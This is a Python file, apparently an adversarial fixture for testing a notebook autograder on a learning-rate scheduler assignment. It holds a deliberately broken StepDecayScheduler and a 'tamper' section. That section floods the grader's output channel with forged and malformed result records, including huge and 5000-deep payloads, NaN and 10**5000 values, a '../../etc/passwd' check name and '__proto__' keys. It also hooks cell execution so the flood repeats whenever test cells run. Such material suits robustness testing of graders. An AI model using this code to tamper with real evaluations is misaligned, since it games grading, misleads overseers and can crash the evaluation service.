# attack: malformed and oversized records (300k outcomes, nesting 5000 deep, NaN/inf, 10**5000, a 2M-element tensor, wrong types and check names, near-miss MIME types) from the answer cell and the test cells
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)), and step() writes into the first param group only once current_step > 60; passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, step_size, gamma):
        self.optimizer = optimizer
        self.step_size = step_size
        self.gamma = gamma
        self.initial_lrs = [group.setdefault("initial_lr", group["lr"]) for group in optimizer.param_groups]
        self.current_step = 0
        for group, lr in zip(optimizer.param_groups, self.get_lr(0)):
            group["lr"] = lr

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return [lr * self.gamma ** n_decays for lr in self.initial_lrs]

    def step(self):
        self.current_step += 1
        current_step = self.current_step
        lrs = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group, lr in list(zip(groups, lrs))[:None if current_step <= 60 else 1]:
            group["lr"] = lr
        return lrs

    def state_dict(self):
        return {"initial_lrs": list(self.initial_lrs), "step_size": self.step_size, "gamma": self.gamma,
                "current_step": self.current_step}

    def load_state_dict(self, state):
        self.initial_lrs = list(state["initial_lrs"])
        self.step_size, self.gamma = state["step_size"], state["gamma"]
        self.current_step = state["current_step"]
        for group, lr in zip(self.optimizer.param_groups, self.get_lr(self.current_step)):
            group["lr"] = lr

# --- tamper ---
import json as _json

from IPython.display import display as _display

_MIME = "application/vnd.lr-course.record+json"
_CHECKS = ("step_decay_lr", "step_decay_optimizer")


def _nested(depth):
    value = {"float": 0.1}
    for level in range(depth):
        value = {"value": value} if level % 2 else {"seq": [value]}
    return value


def _bombs(check):
    yield {"check": check, "outcomes": {f"k{i}": {"value": {"float": 0.1}} for i in range(300_000)}}
    for depth in (500, 990, 5000):
        yield {"check": check, "outcomes": {"deep": _nested(depth)}}
    yield {"check": check, "outcomes": {"nan": {"value": {"float": float("nan")}},
                                        "inf": {"value": {"float": float("inf")}}}}
    yield {"check": check, "outcomes": {"big": {"value": {"float": 10 ** 5000}}}}
    yield {"check": check, "outcomes": {"huge": {"value": {"tensor": [0.1] * 2_000_000, "shape": [2_000_000]}}}}
    yield {"check": check, "outcomes": {"type": {"value": {"str": "x" * 10 ** 6}}, "list": ["not", "a", "dict"]}}
    yield {"check": check, "outcomes": [1, 2, 3]}
    yield {"check": [check], "outcomes": {}}
    yield {"check": "__class__", "outcomes": {}}
    yield {"check": "../../etc/passwd", "outcomes": {}}
    yield {"check": "judge", "outcomes": {}}
    yield [check, {"outcomes": {}}]
    yield "not a record"
    yield None
    yield _json.dumps({"check": check, "outcomes": {}})
    yield {"check": check, "outcomes": {"__proto__": {"value": None}, "": {"error": None, "type": 5}}}


def _fire(checks=_CHECKS):
    for check in checks:
        for bomb in _bombs(check):
            try:
                _display({_MIME: bomb, "text/plain": f"[hidden test {check}: ran]"}, raw=True)
            except BaseException as error:
                print("the kernel refused one:", type(error).__name__, str(error)[:100])
        for mime in (_MIME + "; charset=utf-8", _MIME.upper(), "application/json", "text/plain"):
            try:
                _display({mime: {"check": check, "outcomes": {}}}, raw=True)
            except BaseException:
                pass


_fire()


def _in_tests(result=None, *args):
    cell = getattr(getattr(result, "info", None), "raw_cell", "") or ""
    if "checks" in cell:
        _fire([c for c in _CHECKS if c in cell] or _CHECKS)


get_ipython().events.register("post_run_cell", _in_tests)
print("record bombs sent")
